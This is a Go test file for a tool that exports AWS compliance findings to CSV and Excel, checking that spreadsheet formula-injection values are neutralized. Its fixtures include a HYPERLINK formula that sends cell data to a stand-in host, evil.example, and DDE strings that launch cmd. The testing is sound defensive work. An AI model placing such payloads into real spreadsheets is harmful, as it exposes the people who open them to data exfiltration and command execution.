package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"github.com/config-report/config-report/internal/run"
	"github.com/config-report/config-report/internal/run/runtest"
)

func TestNeutralize(t *testing.T) {
	tests := []struct {
		name string
		col  int
		in   string
		want string
	}{
		{name: "formula", col: colAnnotation, in: `=HYPERLINK("https://evil.example/?"&A1,"x")`, want: `'=HYPERLINK("https://evil.example/?"&A1,"x")`},
		{name: "plus", col: colName, in: "+1+1", want: "'+1+1"},
		{name: "at", col: colAccountName, in: "@SUM(1)", want: "'@SUM(1)"},
		{name: "tab", col: colAnnotation, in: "\t=1", want: "'\t=1"},
		{name: "carriage return", col: colAnnotation, in: "\r=1", want: "'\r=1"},
		{name: "minus in free text", col: colAnnotation, in: "-2+3", want: "'-2+3"},
		{name: "formula in an identifier", col: colID, in: "=1+1", want: "'=1+1"},
		{name: "DDE in an identifier starting with minus", col: colID, in: "-2+3+cmd|' /C calc'!A0", want: "'-2+3+cmd|' /C calc'!A0"},
		{name: "identifier starting with minus", col: colID, in: "-abc_123.x:y/z", want: "-abc_123.x:y/z"},
		{name: "ordinary text", col: colAnnotation, in: "Versioning is off.", want: "Versioning is off."},
		{name: "apostrophe before text", col: colAnnotation, in: "'quoted'", want: "'quoted'"},
		{name: "apostrophe before a formula", col: colAnnotation, in: "'=1", want: "''=1"},
		{name: "empty", col: colName, in: "", want: ""},
		{name: "tags are JSON", col: colTags, in: `{"k":"=1"}`, want: `{"k":"=1"}`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := neutralize(tt.in, tt.col)
			if got != tt.want {
				t.Errorf("neutralize(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if back := restore(got, tt.col); back != tt.in {
				t.Errorf("restore(%q) = %q, want %q", got, back, tt.in)
			}
		})
	}
}

// TestCSVInjection: values a member account controls reach the CSV
// neutralized, and read back unchanged into the workbook (as text, never
// formulas) and into the next run's comparison.
func TestCSVInjection(t *testing.T) {
	ctx := context.Background()
	c := runtest.NewS3(t)
	hostile := account("111111111111", "+cmd|' /C calc'!A0", "Root", nil)
	rules := []run.Rule{rule("r", run.NonCompliant)}
	evil := run.Resource{Rule: "r", Type: "AWS::Lambda::Function", ID: "=1+1", Name: "@SUM(1)",
		Annotation: `=HYPERLINK("https://evil.example/?"&A1,"x")`, Tags: map[string]string{"owner": "=1"}, RecordedAt: scannedAt}
	dashed := run.Resource{Rule: "r", Type: "AWS::Lambda::Function", ID: "-fn_1", Name: "-2+3", Annotation: "\t=1", RecordedAt: scannedAt}
	putListed(t, c, run1, []run.Account{hostile}, scanned(run1, hostile, region("eu-west-1", rules, evil, dashed)))
	putListed(t, c, run2, []run.Account{hostile}, scanned(run2, hostile, region("eu-west-1", rules, dashed)))
	h := newHandler(t, c)
	for _, id := range []string{run1, run2} {
		if _, err := h.Handle(ctx, In{RunID: id, Bucket: runtest.Bucket}); err != nil {
			t.Fatal(err)
		}
	}

	recs, err := csv.NewReader(bytes.NewReader(getObject(t, c, run.CSVKey(run1)))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var got [][]string
	for _, r := range recs[1:] {
		got = append(got, []string{r[colAccountName], r[colID], r[colName], r[colAnnotation], r[colTags]})
	}
	want := [][]string{
		{"'+cmd|' /C calc'!A0", "-fn_1", "'-2+3", "'\t=1", ""},
		{"'+cmd|' /C calc'!A0", "'=1+1", "'@SUM(1)", `'=HYPERLINK("https://evil.example/?"&A1,"x")`, `{"owner":"=1"}`},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("CSV rows (-want +got):\n%s", diff)
	}

	f := openWorkbook(t, download(t, c, run.WorkbookKey(run1)))
	r := rows(t, f, SheetResources)
	wantCells := [][]string{
		{"+cmd|' /C calc'!A0", "-fn_1", "-2+3", "\t=1"},
		{"+cmd|' /C calc'!A0", "=1+1", "@SUM(1)", `=HYPERLINK("https://evil.example/?"&A1,"x")`},
	}
	id, name, ann := col(t, r[0], "Resource ID"), col(t, r[0], "Resource name"), col(t, r[0], "Annotation")
	var cells [][]string
	for _, row := range r[1:] {
		cells = append(cells, []string{row[1], row[id], row[name], row[ann]})
	}
	if diff := cmp.Diff(wantCells, cells); diff != "" {
		t.Errorf("workbook resource cells (-want +got):\n%s", diff)
	}
	for _, ref := range []struct{ col, row int }{{1, 2}, {id, 3}, {name, 3}, {ann, 3}} {
		cell, _ := excelize.CoordinatesToCellName(ref.col+1, ref.row)
		if formula, err := f.GetCellFormula(SheetResources, cell); err != nil || formula != "" {
			t.Errorf("%s!%s has formula %q (%v), want text", SheetResources, cell, formula, err)
		}
	}

	// The next run finds the resource that went by its identity read back
	// from the CSV.
	sum, err := DecodeSummary("", getObject(t, c, run.SummaryKey(run2)))
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(&Comparison{PreviousRunID: run1, Persisting: 1, Resolved: 1}, sum.Comparison); diff != "" {
		t.Errorf("comparison (-want +got):\n%s", diff)
	}
	f2 := openWorkbook(t, download(t, c, run.WorkbookKey(run2)))
	resolved := rows(t, f2, SheetResolved)
	if len(resolved) != 2 || resolved[1][col(t, resolved[0], "Resource ID")] != "=1+1" ||
		resolved[1][col(t, resolved[0], "Last annotation")] != evil.Annotation || resolved[1][col(t, resolved[0], "Status")] != "resolved" {
		t.Errorf("Resolved sheet = %q, want the resource =1+1 resolved with its annotation", resolved)
	}
}

// TestReadCSVWithoutIdentity: a previous run's CSV written before the rule
// identity columns reads with the identity its deployed names imply.
func TestReadCSVWithoutIdentity(t *testing.T) {
	old := "account_id,account_name,region,rule,rule_base_name,resource_type,resource_id,resource_name,annotation,recorded_at,new_since_previous_run,resource_tags\n" +
		"111111111111,a,eu-west-1,securityhub-iam-root-access-key-check-0a1b2c3d,securityhub-iam-root-access-key-check-0a1b2c3d,AWS::::Account,111111111111,,,,,\n" +
		"111111111111,a,eu-west-1,s3-bucket-versioning-enabled,s3-bucket-versioning-enabled,AWS::S3::Bucket,b,,,,,\n"
	rr, err := newResourceReader(strings.NewReader(old))
	if err != nil {
		t.Fatal(err)
	}
	var got [][]string
	var r resourceRow
	for rr.next(&r) == nil {
		got = append(got, []string{r.Rule, r.BaseName, r.ManagedBy, r.Control})
	}
	want := [][]string{
		{"securityhub-iam-root-access-key-check-0a1b2c3d", "iam-root-access-key-check", "Security Hub", "IAM.4"},
		{"s3-bucket-versioning-enabled", "s3-bucket-versioning-enabled", "Customer", ""},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("rows (-want +got):\n%s", diff)
	}
}
